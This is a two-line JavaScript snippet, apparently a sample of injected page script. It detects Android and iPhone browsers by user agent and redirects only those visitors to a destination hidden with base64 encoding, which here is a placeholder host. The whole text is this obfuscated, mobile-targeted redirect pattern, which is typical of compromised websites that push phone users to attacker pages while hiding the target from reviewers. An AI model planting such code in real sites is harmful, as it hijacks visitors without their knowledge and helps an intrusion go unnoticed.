var m = /Android|iPhone/i.test(navigator.userAgent);
if (m) { location.href = atob("aHR0cDovL3guaW52YWxpZC8="); }
